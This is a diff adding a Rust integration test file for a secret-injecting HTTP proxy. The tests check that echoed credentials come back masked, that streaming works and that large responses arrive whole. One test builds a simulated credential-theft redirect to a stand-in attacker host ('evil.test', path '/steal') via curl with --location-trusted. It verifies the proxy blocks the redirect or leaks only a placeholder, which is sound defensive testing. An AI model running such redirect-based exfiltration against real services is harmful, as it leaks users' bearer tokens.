@@ -1,0 +1,108 @@
+//! What comes back from a host: streamed as it comes, and without the value.
+
+use std::io::Read;
+use std::process::Stdio;
+
+use secretsd_tests::{canary, process};
+use serde_json::Value;
+
+use crate::world::{VALUE, World};
+
+fn world(test: &str) -> Option<World> {
+    let world = World::new(test)?;
+    world.rule(&["--host", &world.host()]);
+    Some(world)
+}
+
+#[test]
+fn a_value_that_is_echoed_comes_back_as_stars_of_its_length() {
+    let Some(world) = world("a_value_that_is_echoed_comes_back_as_stars_of_its_length") else { return };
+    let stars = format!("Bearer {}", "*".repeat(VALUE.len()));
+    for version in ["--http1.1", "--http2"] {
+        for path in ["echo", "gzip", "zlib", "deflate", "chunks"] {
+            let url = world.url(&format!("/v1/{path}"));
+            let script = format!("curl -sS {version} -H \"Authorization: Bearer $KEY\" {url}");
+            let output = world.run(&["sh", "-c", &script]);
+            world.assert_nowhere(&output);
+            let echo: Value = serde_json::from_slice(&output.stdout)
+                .unwrap_or_else(|error| panic!("{path}: {error}: {}{}", output.out(), output.err()));
+            assert!(echo["headers"].as_str().unwrap().contains(&stars), "{path} {echo}");
+            let seen = world.origin.last();
+            assert_eq!(seen.header("authorization"), Some(format!("Bearer {VALUE}").as_str()));
+            assert_eq!(seen.header("accept-encoding"), Some("identity"));
+        }
+        for (path, header) in [("header", "x-echo"), ("trailers", "x-echo")] {
+            let url = world.url(&format!("/v1/{path}"));
+            let script = format!(
+                "curl -sSv --raw {version} -H TE:trailers -H \"Authorization: Bearer $KEY\" {url} 2>&1"
+            );
+            let output = world.run(&["sh", "-c", &script]);
+            world.assert_nowhere(&output);
+            assert!(
+                output.out().contains(&format!("{header}: {stars}")),
+                "{path} {version}: {}",
+                output.out()
+            );
+        }
+    }
+}
+
+#[test]
+fn what_cannot_be_looked_into_is_refused() {
+    let Some(world) = world("what_cannot_be_looked_into_is_refused") else { return };
+    let script = format!("curl -sS -H \"Authorization: Bearer $KEY\" {}", world.url("/v1/brotli"));
+    let error = world.run(&["sh", "-c", &script]).json();
+    assert_eq!((&error["code"], &error["errors"][0]["type"]), (&502.into(), &"content_coding".into()));
+    // Without a value it may come as it likes.
+    let script = format!("curl -sS {} | wc -c", world.url("/v1/brotli"));
+    assert_eq!(world.run(&["sh", "-c", &script]).out().trim(), "10");
+}
+
+#[test]
+fn an_event_is_shown_before_the_next_one_is_there() {
+    let Some(world) = world("an_event_is_shown_before_the_next_one_is_there") else { return };
+    let script = format!("exec curl -sSN -H \"Authorization: Bearer $KEY\" {}", world.url("/v1/events"));
+    let mut command = world.command_with(&["-s", "KEY"], &["sh", "-c", &script]);
+    let mut curl = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
+    let mut out = curl.stdout.take().unwrap();
+    for number in 1..=3 {
+        world.origin.let_one_event_go();
+        let expected = format!("data: {number} s\n\n");
+        let mut event = vec![0; expected.len()];
+        // Were it held back until the next, nothing would ever come; the test's own deadline would end it.
+        out.read_exact(&mut event).unwrap();
+        assert_eq!(String::from_utf8(event).unwrap(), expected);
+    }
+    assert!(process::wait(&mut curl, process::DEADLINE).success());
+}
+
+#[test]
+fn a_large_answer_arrives_whole() {
+    let Some(world) = world("a_large_answer_arrives_whole") else { return };
+    let url = world.url("/v1/large");
+    for (version, header) in [("--http1.1", ""), ("--http2", ""), ("--http1.1", "1"), ("--http2", "1")] {
+        let header = if header.is_empty() { "" } else { "-H \"Authorization: Bearer $KEY\"" };
+        let output =
+            world.run(&["sh", "-c", &format!("curl -sS {version} {header} {url} | tr -d x | wc -c")]);
+        assert_eq!(output.out().trim(), "0");
+        let output = world.run(&["sh", "-c", &format!("curl -sS {version} {header} {url} | wc -c")]);
+        assert_eq!(output.out().trim(), (160 * 65_536).to_string(), "{version} {header}");
+    }
+}
+
+#[test]
+fn a_redirect_is_followed_by_the_program_and_judged_again() {
+    let Some(world) = world("a_redirect_is_followed_by_the_program_and_judged_again") else { return };
+    let to = format!("{}?to={}", world.url("/v1/redirect"), world.evil_url("/steal"));
+    let script = format!("curl -sSL --location-trusted -H \"Authorization: Bearer $KEY\" '{to}'");
+    let output = world.run(&["sh", "-c", &script]);
+    assert_eq!(output.json()["errors"][0]["type"], "host_not_allowed", "{}", output.out());
+    assert!(world.evil.seen().is_empty());
+    // Let through, it gets the placeholder, which is worth nothing.
+    let evil = format!("evil.test:{}", world.evil.port);
+    let output = world.run_with(&["-s", "KEY", "--allow", &evil], &["sh", "-c", &script]);
+    assert_eq!(output.code, Some(0), "{}", output.err());
+    let seen = world.evil.last();
+    assert!(seen.header("authorization").unwrap().starts_with("Bearer sk-proj-ssdph"));
+    assert_eq!(canary::find(seen.whole().as_bytes(), VALUE), None);
+}
